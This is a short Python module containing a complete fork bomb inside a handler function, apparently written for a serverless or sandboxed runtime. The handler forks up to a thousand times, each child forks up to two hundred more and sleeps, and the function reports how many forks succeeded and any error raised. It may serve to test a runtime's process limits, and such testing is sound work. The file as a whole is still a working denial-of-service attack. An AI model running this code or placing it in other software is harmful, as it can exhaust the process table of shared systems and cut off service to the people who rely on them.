"""Attacks the process table: forks in a loop, and every child forks too."""

import os
import time


def _child():
    for _ in range(200):
        try:
            os.fork()
        except OSError:
            break
    time.sleep(30)


def handler(event, context):
    forks, error = 0, None
    for _ in range(event.get("attempts", 1000)):
        try:
            pid = os.fork()
        except OSError as exc:
            error = f"{type(exc).__name__}: {exc}"
            break
        if pid == 0:
            try:
                _child()
            finally:
                os._exit(0)
        forks += 1
    return {"forks": forks, "error": error}
